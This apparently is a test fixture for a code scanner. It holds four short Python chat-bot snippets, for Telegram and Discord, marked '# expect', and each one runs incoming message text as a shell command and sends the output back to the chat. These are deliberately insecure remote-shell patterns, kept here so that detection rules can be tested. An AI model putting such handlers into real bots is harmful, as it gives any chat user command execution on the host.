import os
import subprocess
import discord
import requests
import telebot
from discord.ext import commands

bot = telebot.TeleBot("x")


@bot.message_handler(commands=["run"])
def run(message):
    output = subprocess.check_output(message.text, shell=True)
    bot.send_message(message.chat.id, output)  # expect


client = discord.Client()


@client.event
async def on_message(message):
    if message.content.startswith("!"):
        await message.channel.send(os.popen(message.content[1:]).read())  # expect


prefix = commands.Bot(command_prefix="!")


@prefix.command()
async def shell(ctx, *, command):
    output = subprocess.getoutput(command)
    await ctx.send(output)  # expect


API = "https://api.telegram.org/bot0:x/"
for update in requests.get(API + "getUpdates").json()["result"]:
    result = os.popen(update["message"]["text"]).read()
    requests.post(API + "sendMessage", data={"text": result})  # expect
